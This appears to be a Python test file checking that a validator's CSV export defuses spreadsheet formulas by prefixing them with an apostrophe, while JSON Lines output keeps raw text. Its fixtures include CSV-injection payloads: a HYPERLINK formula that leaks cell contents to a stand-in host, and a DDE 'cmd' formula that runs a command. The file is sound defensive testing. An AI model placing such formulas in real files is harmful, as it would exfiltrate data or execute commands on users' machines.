"""Spreadsheet formulas in claims and sources are defused in the CSV files, kept raw in JSON Lines."""

from __future__ import annotations

from pathlib import Path

import pytest
from frictionless import Package

from tests.export.conftest import lay_over, read_csv, read_jsonl
from validator.cli import main
from validator.export.columns import Column
from validator.export.csv_safe import defuse, to_csv

TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@pytest.fixture()
def exported(tmp_path: Path, monkeypatch, capsys) -> Path:
    lay_over("injection", tmp_path)
    (tmp_path / ".git").mkdir()
    monkeypatch.chdir(tmp_path)
    assert main(["claims/", "--export", "out"]) == 0
    capsys.readouterr()
    return tmp_path / "out"


def test_csv_cells_that_start_a_formula_get_an_apostrophe(exported: Path) -> None:
    rows = {r["claim_id"]: r for r in read_csv(exported / "figures.csv")}
    arrests, spain = rows["formulas.arrests"], rows["formulas.spain"]
    assert arrests["source_title"] == "'" + TITLE
    assert arrests["source_publisher"] == "'+SUM(1,2)"
    assert arrests["quote"] == "'-38 suspects were arrested"
    assert arrests["note"] == "'=cmd|' /C calc'!A0"
    assert spain["quote"] == "'@police arrested 12 people in Spain"
    assert spain["note"] == "'\tstarts with a tab"
    assert arrests["claim"] == "38 arrests" and arrests["value"] == "38"  # harmless text and numbers untouched


def test_json_lines_keep_the_raw_text(exported: Path) -> None:
    rows = {r["claim_id"]: r for r in read_jsonl(exported / "figures.jsonl")}
    assert rows["formulas.arrests"]["source_title"] == TITLE
    assert rows["formulas.arrests"]["quote"] == ["-38 suspects were arrested"]
    assert rows["formulas.arrests"]["note"] == "=cmd|' /C calc'!A0"
    assert rows["formulas.spain"]["note"] == "\tstarts with a tab"


def test_no_cell_of_any_csv_starts_a_formula(exported: Path) -> None:
    for name in ("figures.csv", "events.csv"):
        for row in read_csv(exported / name):
            assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], (name, row)


def test_the_defused_package_still_validates(exported: Path) -> None:
    report = Package(str(exported / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("1-1", "1-1"), ("a=b", "a=b"), ("", ""), ("'=x", "'=x"),
])
def test_defuse(text: str, written: str) -> None:
    assert defuse(text) == written


def test_only_string_columns_are_defused() -> None:
    columns = (Column("n", "number", "a number"), Column("s", "string", "a text"))
    assert to_csv(columns, [{"n": float("inf"), "s": "-INF"}]) == "n,s\nINF,'-INF\n"
